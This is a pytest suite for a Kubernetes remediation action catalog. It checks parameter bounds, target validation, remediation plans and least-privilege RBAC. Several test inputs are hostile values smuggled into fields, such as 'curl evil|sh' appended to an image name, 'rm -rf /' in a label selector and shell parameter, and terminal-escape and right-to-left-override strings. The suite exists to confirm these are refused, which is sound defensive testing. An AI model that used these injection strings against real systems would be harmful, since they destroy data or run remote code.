"""The typed action catalog: vocabulary, metadata, parameter bounds, targets, plans, RBAC."""

from __future__ import annotations

import json
from decimal import Decimal
from typing import Any

import jsonschema
import pytest

from kubernaut.execution.catalog import (
    ACTION_NAMES,
    CATALOG,
    ActionParams,
    ActionPlan,
    ActionSpec,
    CatalogError,
    Risk,
    UnknownActionError,
    catalog_document,
    get_action,
    parse_quantity,
    rbac_rules,
    validate_request,
)
from kubernaut.models.resource import ResourceRef

EXPECTED_NAMES = {
    "restart_pod", "delete_pod", "evict_pod", "rollout_restart", "scale_deployment", "scale_statefulset",
    "rollback_deployment", "pause_rollout", "resume_rollout", "set_image", "increase_memory_limits",
    "increase_cpu_limits", "update_hpa", "relax_pdb", "quarantine_pod", "cordon_node", "uncordon_node",
    "drain_node", "taint_node", "remove_taint", "expand_pvc", "cleanup_orphaned_pvcs", "suspend_cronjob",
    "resume_cronjob", "rerun_job", "remove_network_policy", "collect_diagnostics", "notify_only",
    "pause_gitops_self_heal", "resume_gitops_self_heal",
}  # fmt: skip

POD = ResourceRef(kind="Pod", name="api-7d4b9c-x2x", namespace="payments")
DEPLOY = ResourceRef(kind="Deployment", name="api", namespace="payments")
STS = ResourceRef(kind="StatefulSet", name="db", namespace="payments")
NODE = ResourceRef(kind="Node", name="worker-3")
PVC = ResourceRef(kind="PersistentVolumeClaim", name="data-db-0", namespace="payments")
HPA = ResourceRef(kind="HorizontalPodAutoscaler", name="api", namespace="payments")
PDB = ResourceRef(kind="PodDisruptionBudget", name="api", namespace="payments")
NS = ResourceRef(kind="Namespace", name="payments")
JOB = ResourceRef(kind="Job", name="nightly-report", namespace="payments")
CRON = ResourceRef(kind="CronJob", name="nightly", namespace="payments")
NETPOL = ResourceRef(kind="NetworkPolicy", name="deny-egress", namespace="payments")
ARGO_APP = ResourceRef(kind="Application", name="payments", namespace="argocd")

# One valid request per action: the baseline every bound test perturbs.
VALID: dict[str, tuple[ResourceRef, dict[str, Any]]] = {
    "restart_pod": (POD, {}),
    "delete_pod": (POD, {"grace_period_seconds": 0}),
    "evict_pod": (POD, {"grace_period_seconds": 30}),
    "rollout_restart": (DEPLOY, {}),
    "scale_deployment": (DEPLOY, {"replicas": 4}),
    "scale_statefulset": (STS, {"replicas": 3}),
    "rollback_deployment": (DEPLOY, {"to_revision": 7}),
    "pause_rollout": (DEPLOY, {}),
    "resume_rollout": (DEPLOY, {}),
    "set_image": (DEPLOY, {"container": "api", "image": "registry.example.com/payments/api:1.4.2"}),
    "increase_memory_limits": (DEPLOY, {"factor": 2.0, "container": "api"}),
    "increase_cpu_limits": (DEPLOY, {"new_limit": "1500m"}),
    "update_hpa": (HPA, {"min_replicas": 2, "max_replicas": 20}),
    "relax_pdb": (PDB, {"max_unavailable": "25%"}),
    "quarantine_pod": (POD, {}),
    "cordon_node": (NODE, {}),
    "uncordon_node": (NODE, {}),
    "drain_node": (NODE, {"grace_period_seconds": 60, "timeout_seconds": 900}),
    "taint_node": (NODE, {"key": "example.com/flaky-gpu", "value": "true", "effect": "NoSchedule"}),
    "remove_taint": (NODE, {"key": "example.com/flaky-gpu"}),
    "expand_pvc": (PVC, {"new_size": "200Gi"}),
    "cleanup_orphaned_pvcs": (NS, {"older_than_hours": 48, "label_selector": "app=old", "max_deletions": 5}),
    "suspend_cronjob": (CRON, {}),
    "resume_cronjob": (CRON, {}),
    "rerun_job": (JOB, {"suffix": "retry1"}),
    "remove_network_policy": (NETPOL, {}),
    "collect_diagnostics": (DEPLOY, {"include_logs": True, "tail_lines": 500}),
    "notify_only": (DEPLOY, {"reason": "GitOps-managed: fix the memory limit in git.\nSee the runbook."}),
    "pause_gitops_self_heal": (ARGO_APP, {}),
    "resume_gitops_self_heal": (ARGO_APP, {}),
}

KNOWN_KINDS = {
    "Pod", "Deployment", "StatefulSet", "DaemonSet", "Node", "PersistentVolumeClaim", "Namespace", "Job",
    "CronJob", "HorizontalPodAutoscaler", "PodDisruptionBudget", "NetworkPolicy", "*",
    "Application", "Kustomization", "HelmRelease",
}  # fmt: skip
KNOWN_VERBS = {"get", "list", "watch", "create", "update", "patch", "delete"}


def refused(name: str, target: ResourceRef | dict[str, Any], params: Any) -> str:
    with pytest.raises(CatalogError) as info:
        validate_request(name, target, params)
    return str(info.value)


# --- vocabulary --------------------------------------------------------------------------------


def test_exactly_the_30_actions() -> None:
    assert set(CATALOG) == EXPECTED_NAMES
    assert len(CATALOG) == 30
    assert set(ACTION_NAMES) == EXPECTED_NAMES
    assert set(VALID) == EXPECTED_NAMES


def test_catalog_is_immutable() -> None:
    with pytest.raises(TypeError):
        CATALOG["rm_rf"] = CATALOG["notify_only"]  # type: ignore[index]
    spec = CATALOG["restart_pod"]
    with pytest.raises(AttributeError):
        spec.risk = Risk.CRITICAL  # type: ignore[misc]


@pytest.mark.parametrize("name", sorted(EXPECTED_NAMES))
def test_spec_is_well_formed(name: str) -> None:
    spec = CATALOG[name]
    assert isinstance(spec, ActionSpec)
    assert spec.name == name
    assert get_action(name) is spec
    assert spec.summary and spec.when_to_use and spec.when_not_to_use and spec.verification
    assert issubclass(spec.params, ActionParams)
    assert spec.params.model_config.get("extra") == "forbid"
    schema = spec.params.model_json_schema()
    assert schema["type"] == "object" and schema.get("additionalProperties") is False
    assert spec.target_kinds and set(spec.target_kinds) <= KNOWN_KINDS
    assert isinstance(spec.risk, Risk)
    assert spec.inverse is None or spec.inverse in CATALOG
    assert isinstance(spec.preconditions, tuple)
    assert all(isinstance(p, str) and p for p in spec.preconditions)
    if spec.mutates:
        assert spec.rbac, f"{name} mutates but declares no RBAC"
        assert spec.preconditions
    for rule in spec.rbac:
        assert rule.resource and rule.verbs and set(rule.verbs) <= KNOWN_VERBS
        assert rule.resource != "secrets" and "*" not in rule.verbs


def test_only_observation_actions_do_not_mutate() -> None:
    assert {n for n, s in CATALOG.items() if not s.mutates} == {"collect_diagnostics", "notify_only"}
    assert CATALOG["notify_only"].target_kinds == ("*",)
    assert CATALOG["collect_diagnostics"].target_kinds == ("*",)


def test_target_kinds() -> None:
    assert CATALOG["rollout_restart"].target_kinds == ("Deployment", "StatefulSet", "DaemonSet")
    assert CATALOG["restart_pod"].target_kinds == ("Pod",)
    assert CATALOG["drain_node"].target_kinds == ("Node",)
    assert CATALOG["expand_pvc"].target_kinds == ("PersistentVolumeClaim",)
    assert CATALOG["cleanup_orphaned_pvcs"].target_kinds == ("Namespace",)


@pytest.mark.parametrize(
    ("action", "inverse"),
    [
        ("cordon_node", "uncordon_node"),
        ("uncordon_node", "cordon_node"),
        ("pause_rollout", "resume_rollout"),
        ("resume_rollout", "pause_rollout"),
        ("suspend_cronjob", "resume_cronjob"),
        ("resume_cronjob", "suspend_cronjob"),
        ("pause_gitops_self_heal", "resume_gitops_self_heal"),
        ("resume_gitops_self_heal", "pause_gitops_self_heal"),
        ("taint_node", "remove_taint"),
        ("remove_taint", "taint_node"),
        ("scale_deployment", "scale_deployment"),
        ("scale_statefulset", "scale_statefulset"),
        ("set_image", "set_image"),
        ("increase_memory_limits", "increase_memory_limits"),
        ("increase_cpu_limits", "increase_cpu_limits"),
        ("update_hpa", "update_hpa"),
        ("relax_pdb", "relax_pdb"),
        ("quarantine_pod", "remove_network_policy"),
        ("drain_node", "uncordon_node"),
        ("rollback_deployment", "rollback_deployment"),
        ("notify_only", None),
        ("cleanup_orphaned_pvcs", None),
        ("expand_pvc", None),
    ],
)
def test_inverses(action: str, inverse: str | None) -> None:
    spec = CATALOG[action]
    assert spec.inverse == inverse
    if inverse is not None:
        assert spec.inverse_note, "how the inverse is parameterised must be documented"


def test_sensitive_actions_need_a_human() -> None:
    sensitive = {n for n, s in CATALOG.items() if s.sensitive}
    assert {
        "cordon_node", "uncordon_node", "drain_node", "taint_node", "remove_taint", "scale_statefulset",
        "cleanup_orphaned_pvcs", "set_image", "remove_network_policy", "relax_pdb",
    } <= sensitive  # fmt: skip
    assert "restart_pod" not in sensitive and "notify_only" not in sensitive
    assert CATALOG["rollout_restart"].needs_approval(STS) is True  # sensitive kind
    assert CATALOG["rollout_restart"].needs_approval(DEPLOY) is False
    assert CATALOG["collect_diagnostics"].needs_approval(NODE) is False  # reading never waits


def test_guard_texts_are_kept() -> None:
    rollback = CATALOG["rollback_deployment"].when_not_to_use
    assert "OOMKilled" in rollback and "increase_memory_limits" in rollback
    assert "ResourceQuota" in CATALOG["increase_memory_limits"].when_not_to_use
    for name in ("rollout_restart", "set_image", "scale_deployment", "increase_memory_limits"):
        assert "GitOps" in CATALOG[name].when_not_to_use, name
    assert "OOMKilled" in CATALOG["restart_pod"].when_not_to_use


def test_risk_levels() -> None:
    assert CATALOG["notify_only"].risk is Risk.LOW
    assert CATALOG["drain_node"].risk is Risk.HIGH
    assert CATALOG["cleanup_orphaned_pvcs"].risk is Risk.HIGH
    assert {r.value for r in Risk} == {"low", "medium", "high", "critical"}


# --- catalog document and RBAC -----------------------------------------------------------------

DOC_KEYS = {
    "name", "summary", "target_kinds", "risk", "mutates", "sensitive", "preconditions", "when_to_use",
    "when_not_to_use", "verification", "inverse", "parameters_schema",
}  # fmt: skip


def test_catalog_document_is_json_and_complete() -> None:
    document = catalog_document()
    assert [d["name"] for d in document] == list(CATALOG)
    json.dumps(document)  # serialisable as the body of GET /api/v1/actions
    for entry in document:
        assert DOC_KEYS <= set(entry)
        assert entry["risk"] in {"low", "medium", "high", "critical"}
        jsonschema.Draft202012Validator.check_schema(entry["parameters_schema"])


@pytest.mark.parametrize("name", sorted(EXPECTED_NAMES))
def test_schema_accepts_the_valid_example(name: str) -> None:
    schema = CATALOG[name].params.model_json_schema()
    jsonschema.validate(VALID[name][1], schema)


def test_schema_carries_the_bounds() -> None:
    schema = CATALOG["scale_deployment"].params.model_json_schema()
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"replicas": -1}, schema)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"replicas": 2, "force": True}, schema)
    drain = CATALOG["drain_node"].params.model_json_schema()["properties"]
    assert drain["grace_period_seconds"]["anyOf"][0]["maximum"] == 3600


def test_rbac_rules_are_merged_sorted_and_least_privilege() -> None:
    rules = rbac_rules()
    assert rules == rbac_rules()  # deterministic
    assert rules == sorted(rules, key=lambda r: (r["apiGroups"], r["resources"], r["verbs"]))
    pairs: dict[tuple[str, str], set[str]] = {}
    for rule in rules:
        assert set(rule) == {"apiGroups", "resources", "verbs"}
        assert len(rule["apiGroups"]) == 1
        assert rule["verbs"] == sorted(rule["verbs"]) and rule["resources"] == sorted(rule["resources"])
        assert "*" not in rule["verbs"] and "*" not in rule["resources"]
        for resource in rule["resources"]:
            key = (rule["apiGroups"][0], resource)
            assert key not in pairs, f"{key} appears in two rules"
            pairs[key] = set(rule["verbs"])
    assert pairs[("", "pods/eviction")] == {"create"}
    assert {"get", "patch"} <= pairs[("apps", "deployments/scale")]
    assert {"get", "patch"} <= pairs[("apps", "statefulsets/scale")]
    assert {"get", "patch"} <= pairs[("", "nodes")]
    assert "delete" in pairs[("", "pods")] and "delete" in pairs[("", "persistentvolumeclaims")]
    assert ("", "secrets") not in pairs
    # Every action's own needs are covered by the merged role.
    for spec in CATALOG.values():
        for rule in spec.rbac:
            assert set(rule.verbs) <= pairs[(rule.api_group, rule.resource)]


# --- lookup and validation ---------------------------------------------------------------------


def test_unknown_action_lists_close_matches() -> None:
    with pytest.raises(UnknownActionError) as info:
        get_action("restart_pods")
    assert "restart_pods" in str(info.value)
    assert "restart_pod" in info.value.suggestions
    assert "did you mean" in str(info.value) and "restart_pod" in str(info.value)
    assert isinstance(info.value, CatalogError) and isinstance(info.value, ValueError)


def test_unknown_action_normalises_case_and_dashes() -> None:
    with pytest.raises(UnknownActionError) as info:
        get_action("Drain-Node")
    assert info.value.suggestions[0] == "drain_node"


def test_unknown_action_without_matches_and_hostile_name() -> None:
    with pytest.raises(UnknownActionError) as info:
        get_action("kubectl delete ns prod\x1b[2J" + "x" * 500)
    message = str(info.value)
    assert "\x1b" not in message and len(message) < 300
    with pytest.raises(UnknownActionError):
        validate_request("exec_shell", DEPLOY, {})


@pytest.mark.parametrize("name", sorted(EXPECTED_NAMES))
def test_valid_example_validates_and_round_trips(name: str) -> None:
    target, params = VALID[name]
    spec, parsed = validate_request(name, target, params)
    assert spec is CATALOG[name] and isinstance(parsed, spec.params)
    # Validated parameters are stored as JSON and validated again by the executor: must round-trip.
    for dumped in (parsed.model_dump(mode="json"), parsed.model_dump(mode="json", exclude_none=True)):
        assert validate_request(name, target, dumped)[1] == parsed


@pytest.mark.parametrize("name", sorted(EXPECTED_NAMES))
def test_extra_parameters_are_refused(name: str) -> None:
    target, params = VALID[name]
    message = refused(name, target, {**params, "shell": "rm -rf /"})
    assert "shell" in message and "Extra inputs are not permitted" in message


@pytest.mark.parametrize(
    ("name", "target", "params", "field"),
    [
        ("scale_deployment", DEPLOY, {"replicas": -1}, "replicas"),
        ("scale_deployment", DEPLOY, {"replicas": 501}, "replicas"),
        ("scale_deployment", DEPLOY, {}, "replicas"),
        ("scale_deployment", DEPLOY, {"replicas": "many"}, "replicas"),
        ("scale_statefulset", STS, {"replicas": 10_000}, "replicas"),
        ("increase_memory_limits", DEPLOY, {"factor": 10}, "factor"),
        ("increase_memory_limits", DEPLOY, {"factor": 1.0}, "factor"),
        ("increase_memory_limits", DEPLOY, {"new_limit": "lots"}, "new_limit"),
        ("increase_memory_limits", DEPLOY, {"new_limit": "512m"}, "new_limit"),  # millibytes: a unit slip
        ("increase_memory_limits", DEPLOY, {"new_limit": "64Gi"}, "new_limit"),  # above default max_limit
        ("increase_memory_limits", DEPLOY, {"new_limit": "2Gi", "factor": 2}, "new_limit"),
        ("increase_memory_limits", DEPLOY, {"max_limit": "1Ti"}, "max_limit"),
        ("increase_memory_limits", DEPLOY, {"container": "API Server"}, "container"),
        ("increase_cpu_limits", DEPLOY, {"new_limit": "100"}, "new_limit"),
        ("increase_cpu_limits", DEPLOY, {"factor": 4.5}, "factor"),
        ("set_image", DEPLOY, {"container": "api", "image": "nginx:1.27 --privileged"}, "image"),
        ("set_image", DEPLOY, {"container": "api", "image": "nginx:1.27\n"}, "image"),
        ("set_image", DEPLOY, {"container": "api", "image": "nginx:1.27\ncurl evil|sh"}, "image"),
        ("set_image", DEPLOY, {"container": "api", "image": "Registry/UPPER:tag"}, "image"),
        ("set_image", DEPLOY, {"container": "api", "image": "a/" * 130 + "b"}, "image"),
        ("set_image", DEPLOY, {"container": "api", "image": ""}, "image"),
        ("set_image", DEPLOY, {"image": "nginx:1.27"}, "container"),
        ("rollback_deployment", DEPLOY, {"to_revision": 0}, "to_revision"),
        ("update_hpa", HPA, {"min_replicas": 5, "max_replicas": 3}, "min_replicas"),
        ("update_hpa", HPA, {}, "max_replicas"),
        ("update_hpa", HPA, {"max_replicas": 0}, "max_replicas"),
        ("update_hpa", HPA, {"max_replicas": 10, "max_replicas_factor": 2}, "max_replicas_factor"),
        ("relax_pdb", PDB, {}, "max_unavailable"),
        ("relax_pdb", PDB, {"max_unavailable": 1, "min_available": 1}, "min_available"),
        ("relax_pdb", PDB, {"max_unavailable": "150%"}, "max_unavailable"),
        ("relax_pdb", PDB, {"max_unavailable": -1}, "max_unavailable"),
        ("relax_pdb", PDB, {"max_unavailable": 0}, "max_unavailable"),
        ("relax_pdb", PDB, {"min_available": "100%"}, "min_available"),
        ("drain_node", NODE, {"grace_period_seconds": 3601}, "grace_period_seconds"),
        ("drain_node", NODE, {"timeout_seconds": 5}, "timeout_seconds"),
        ("drain_node", NODE, {"max_unavailable_respected": False}, "max_unavailable_respected"),
        ("taint_node", NODE, {"key": "bad key", "effect": "NoSchedule"}, "key"),
        ("taint_node", NODE, {"key": "example.com/x", "effect": "NoWay"}, "effect"),
        ("taint_node", NODE, {"key": "example.com/x", "value": "a b", "effect": "NoSchedule"}, "value"),
        ("taint_node", NODE, {"key": "node.kubernetes.io/unreachable", "effect": "NoExecute"}, "key"),
        ("remove_taint", NODE, {"key": "node.cloudprovider.kubernetes.io/uninitialized"}, "key"),
        ("expand_pvc", PVC, {}, "new_size"),
        ("expand_pvc", PVC, {"new_size": "200Gi", "factor": 2}, "factor"),
        ("expand_pvc", PVC, {"new_size": "10Ti"}, "new_size"),
        ("expand_pvc", PVC, {"factor": 1.5, "max_size": "100Ti"}, "max_size"),
        ("cleanup_orphaned_pvcs", NS, {"older_than_hours": 0}, "older_than_hours"),
        ("cleanup_orphaned_pvcs", NS, {"max_deletions": 51}, "max_deletions"),
        ("cleanup_orphaned_pvcs", NS, {"label_selector": "app=x; rm -rf /"}, "label_selector"),
        ("rerun_job", JOB, {"suffix": "Not_Valid"}, "suffix"),
        ("rerun_job", JOB, {"suffix": "x" * 21}, "suffix"),
        ("collect_diagnostics", DEPLOY, {"tail_lines": 0}, "tail_lines"),
        ("collect_diagnostics", DEPLOY, {"tail_lines": 2001}, "tail_lines"),
        ("notify_only", DEPLOY, {"reason": "x" * 2001}, "reason"),
        ("notify_only", DEPLOY, {"reason": "ok\x1b[31mred"}, "reason"),
        ("notify_only", DEPLOY, {"reason": "approve\u202etxt.exe"}, "reason"),
        ("restart_pod", POD, {"grace_period_seconds": -5}, "grace_period_seconds"),
        ("delete_pod", POD, {"grace_period_seconds": 7200}, "grace_period_seconds"),
        ("evict_pod", POD, {"grace_period_seconds": 3601}, "grace_period_seconds"),
        ("quarantine_pod", POD, {"deny_ingress": False, "deny_egress": False}, "deny_ingress"),
    ],
)
def test_bounds_are_refused_naming_the_field(
    name: str, target: ResourceRef, params: dict[str, Any], field: str
) -> None:
    message = refused(name, target, params)
    assert message.startswith(f"{name}: ")
    assert field in message, message
    # No pydantic union-member noise in what the LLM or the operator reads.
    assert "function-before" not in message and "constrained-" not in message


def test_errors_name_every_bad_field() -> None:
    message = refused("drain_node", NODE, {"grace_period_seconds": -1, "timeout_seconds": 99999})
    assert "grace_period_seconds:" in message and "timeout_seconds:" in message and ";" in message


def test_parameters_must_be_an_object() -> None:
    assert "object" in refused("scale_deployment", DEPLOY, ["replicas", 3])


@pytest.mark.parametrize(
    "image",
    [
        "nginx",
        "nginx:1.27",
        "library/nginx:1.27-alpine",
        "registry.example.com:5000/team/api:v1.2.3",
        "ghcr.io/org/app@sha256:" + "a" * 64,
        "ghcr.io/org/app:1.0@sha256:" + "b" * 64,
    ],
)
def test_valid_images_are_accepted(image: str) -> None:
    _, params = validate_request("set_image", DEPLOY, {"container": "api", "image": image})
    assert params.image == image  # type: ignore[attr-defined]


def test_limits_defaults_and_equivalent_forms() -> None:
    _, params = validate_request("increase_memory_limits", DEPLOY, {})
    assert params.factor == 1.5 and params.new_limit is None  # type: ignore[attr-defined]
    _, params = validate_request("increase_memory_limits", DEPLOY, {"new_limit": "3Gi"})
    assert params.new_limit == "3Gi"  # type: ignore[attr-defined]
    _, params = validate_request("relax_pdb", PDB, {"max_unavailable": "2"})
    assert params.max_unavailable == 2  # type: ignore[attr-defined]
    _, params = validate_request("update_hpa", HPA, {"max_replicas_factor": 1.5})
    assert params.max_replicas_factor == 1.5  # type: ignore[attr-defined]


def test_free_text_keeps_newlines_but_not_other_controls() -> None:
    _, params = validate_request("notify_only", DEPLOY, {"reason": "line one\n\tline two"})
    assert params.reason == "line one\n\tline two"  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("512Mi", Decimal(512 * 2**20)),
        ("1Gi", Decimal(2**30)),
        ("1.5", Decimal("1.5")),
        ("500m", Decimal("0.5")),
        ("2k", Decimal(2000)),
        ("1e3", Decimal(1000)),
        ("1E", Decimal(10) ** 18),
    ],
)
def test_parse_quantity(text: str, value: Decimal) -> None:
    assert parse_quantity(text) == value


def test_parse_quantity_refuses_garbage() -> None:
    with pytest.raises(ValueError):
        parse_quantity("12 Gi")


# --- targets -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "target", "needle"),
    [
        ("scale_deployment", STS, "StatefulSet"),
        ("drain_node", POD, "Pod"),
        ("expand_pvc", DEPLOY, "Deployment"),
        ("cordon_node", ResourceRef(kind="Node", name="w1", namespace="default"), "cluster-scoped"),
        ("restart_pod", ResourceRef(kind="Pod", name="api-1"), "namespace is missing"),
        ("rollout_restart", ResourceRef(kind="Deployment", name="api"), "namespace is missing"),
        ("collect_diagnostics", ResourceRef(kind="Deployment", name="api"), "namespace is missing"),
        ("restart_pod", ResourceRef(kind="Pod", name="Bad_Name", namespace="p"), "not a valid Pod name"),
        ("restart_pod", ResourceRef(kind="Pod", name="ok", namespace="Bad NS"), "namespace"),
        ("notify_only", ResourceRef(kind="Pod", name="x\ny", namespace="p"), "not a valid Pod name"),
        ("restart_pod", ResourceRef(kind="Pod", name="api\n", namespace="p"), "not a valid Pod name"),
        ("restart_pod", ResourceRef(kind="Pod", name="api", namespace="p\n"), "namespace"),
        ("notify_only", ResourceRef(kind="Widget\n", name="w", namespace="p"), "not a Kubernetes kind"),
        ("cleanup_orphaned_pvcs", ResourceRef(kind="Namespace", name="a", namespace="b"), "namespace"),
        ("collect_diagnostics", ResourceRef(kind="Secret", name="db-creds", namespace="p"), "Secret"),
    ],
)
def test_validate_target_refuses(name: str, target: ResourceRef, needle: str) -> None:
    spec = CATALOG[name]
    with pytest.raises(CatalogError) as info:
        spec.plan(target, VALID[name][1])
    assert needle in str(info.value) and name in str(info.value)


def test_validate_target_messages_name_accepted_kinds() -> None:
    with pytest.raises(CatalogError) as info:
        CATALOG["rollout_restart"].validate_target(POD)
    assert "Deployment, StatefulSet, DaemonSet" in str(info.value)


def test_validate_target_accepts() -> None:
    for kind in ("Deployment", "StatefulSet", "DaemonSet"):
        ref = ResourceRef(kind=kind, name="api", namespace="payments")
        assert CATALOG["rollout_restart"].validate_target(ref) is ref
    CATALOG["cleanup_orphaned_pvcs"].validate_target(ResourceRef(kind="Namespace", name="p", namespace="p"))
    CATALOG["notify_only"].validate_target(ResourceRef(kind="ClusterRole", name="system:node"))
    CATALOG["update_hpa"].validate_target(DEPLOY)


def test_target_may_come_as_a_dict() -> None:
    spec, _ = validate_request("restart_pod", {"kind": "Pod", "name": "api-1", "namespace": "p"}, {})
    assert spec.name == "restart_pod"
    message = refused("restart_pod", {"kind": "Pod", "name": ""}, {})
    assert "target.name" in message


def test_derived_names_are_checked() -> None:
    long_job = ResourceRef(kind="Job", name="j" * 55, namespace="p")
    assert "suffix" in refused("rerun_job", long_job, {"suffix": "retry-number-1"})


# --- plans -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(EXPECTED_NAMES))
def test_plan_names_the_target_and_the_calls(name: str) -> None:
    target, params = VALID[name]
    plan = CATALOG[name].plan(target, params)
    assert isinstance(plan, ActionPlan)
    assert plan.action == name and plan.target == target
    assert plan.mutates is CATALOG[name].mutates
    assert plan.steps and all(isinstance(step, str) and step for step in plan.steps)
    assert any(target.name in step for step in plan.steps), plan.steps
    json.dumps(plan.model_dump(mode="json"))
    assert plan.parameters == CATALOG[name].parse_params(params).model_dump(mode="json")
    if plan.mutates:
        verbs = ("PATCH", "DELETE", "CREATE")
        assert any(step.startswith(verbs) for step in plan.steps), plan.steps


def test_plan_accepts_validated_params_and_refuses_foreign_ones() -> None:
    spec, params = validate_request("scale_deployment", DEPLOY, {"replicas": 3})
    assert spec.plan(DEPLOY, params).parameters == {"replicas": 3}
    _, other = validate_request("scale_statefulset", STS, {"replicas": 3})
    with pytest.raises(CatalogError):
        spec.plan(DEPLOY, other)


def test_rollout_restart_plan_is_concrete() -> None:
    plan = CATALOG["rollout_restart"].plan(DEPLOY)
    assert (
        "PATCH apps/v1 Deployment payments/api "
        "spec.template.metadata.annotations[kubectl.kubernetes.io/restartedAt]=<now>"
    ) in plan.steps
    assert plan.risk is Risk.MEDIUM and plan.sensitive is False


def test_scale_to_zero_is_allowed_but_flagged() -> None:
    plan = CATALOG["scale_deployment"].plan(DEPLOY, {"replicas": 0})
    assert plan.risk is Risk.HIGH and plan.warnings
    assert "PATCH apps/v1 Deployment payments/api/scale spec.replicas=0" in plan.steps


def test_drain_uses_evictions_and_respects_pdbs() -> None:
    plan = CATALOG["drain_node"].plan(NODE, {})
    text = "\n".join(plan.steps)
    assert "PATCH v1 Node worker-3 spec.unschedulable=true" in plan.steps
    assert "pods/eviction" in text and "PodDisruptionBudget" in text and "DELETE" not in text
    assert plan.sensitive is True and plan.risk is Risk.HIGH


def test_noexecute_taint_raises_the_risk() -> None:
    plan = CATALOG["taint_node"].plan(NODE, {"key": "example.com/bad", "effect": "NoExecute"})
    assert plan.risk is Risk.HIGH and plan.warnings
    assert CATALOG["taint_node"].plan(NODE, VALID["taint_node"][1]).risk is Risk.MEDIUM


def test_non_mutating_plans() -> None:
    plan = CATALOG["notify_only"].plan(DEPLOY, {"reason": "needs a human"})
    assert plan.mutates is False and plan.sensitive is False
    plan = CATALOG["collect_diagnostics"].plan(STS, {"include_logs": False})
    assert not any("pods/log" in step for step in plan.steps)
